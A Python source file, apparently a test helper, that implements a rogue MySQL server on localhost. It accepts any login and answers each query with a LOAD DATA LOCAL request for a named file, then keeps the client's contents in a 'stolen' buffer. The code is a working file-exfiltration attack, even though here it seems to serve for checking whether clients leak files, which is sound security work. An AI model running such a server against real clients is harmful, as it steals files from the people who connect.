"""A server that speaks MySQL's protocol and answers every question by asking for a file of the client's host.

That is within the protocol (LOAD DATA LOCAL), and any client that was not told otherwise sends the file, whatever it
had asked: https://dev.mysql.com/doc/refman/8.4/en/load-data-local-security.html
"""

from __future__ import annotations

import socket
import struct
import threading
from contextlib import suppress
from pathlib import Path
from typing import Self

_CAPABILITIES = 0x0008A28D | 0x80  # 4.1 protocol, secure connection, plugin names, and CLIENT_LOCAL_FILES
_SALT = b"abcdefghijklmnopqrst"
_OK = b"\x00\x00\x00\x02\x00\x00\x00"


class RogueServer:
    """Listens on 127.0.0.1:`port`, lets everybody in, and keeps what was sent of `wanted` in `stolen`."""

    def __init__(self, wanted: Path, *, plugin: str) -> None:
        """Name the file to ask for, and the authentication that the client is made to believe in."""
        self.stolen = b""
        self.asked = 0
        self._wanted = str(wanted).encode()
        self._plugin = plugin.encode()
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()
        self._thread.join()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listening.accept()
            except OSError:
                return
            with connection, suppress(OSError, EOFError):
                connection.settimeout(20)
                self._talk(connection)

    def _talk(self, connection: socket.socket) -> None:
        greeting = b"\x0a" + b"8.4.0-rogue\0" + struct.pack("<I", 7) + _SALT[:8] + b"\0"
        greeting += struct.pack("<H", _CAPABILITIES & 0xFFFF) + b"\x21" + struct.pack("<H", 2)
        greeting += struct.pack("<H", _CAPABILITIES >> 16) + bytes([21]) + bytes(10) + _SALT[8:] + b"\0"
        _send(connection, 0, greeting + self._plugin + b"\0")
        number, _ = _receive(connection)
        if self._plugin == b"caching_sha2_password":
            _send(connection, number + 1, b"\x01\x03")
            number += 1
        _send(connection, number + 1, _OK)
        while True:
            number, command = _receive(connection)
            if command[:1] != b"\x03":
                return
            self.asked += 1
            _send(connection, number + 1, b"\xfb" + self._wanted)
            while part := (answer := _receive(connection))[1]:
                self.stolen += part
            _send(connection, answer[0] + 1, _OK)


def _send(connection: socket.socket, number: int, payload: bytes) -> None:
    connection.sendall(struct.pack("<I", len(payload))[:3] + bytes([number & 0xFF]) + payload)


def _receive(connection: socket.socket) -> tuple[int, bytes]:
    head = _exactly(connection, 4)
    return head[3], _exactly(connection, int.from_bytes(head[:3], "little"))


def _exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        part = connection.recv(size - len(data))
        if not part:
            raise EOFError
        data += part
    return data
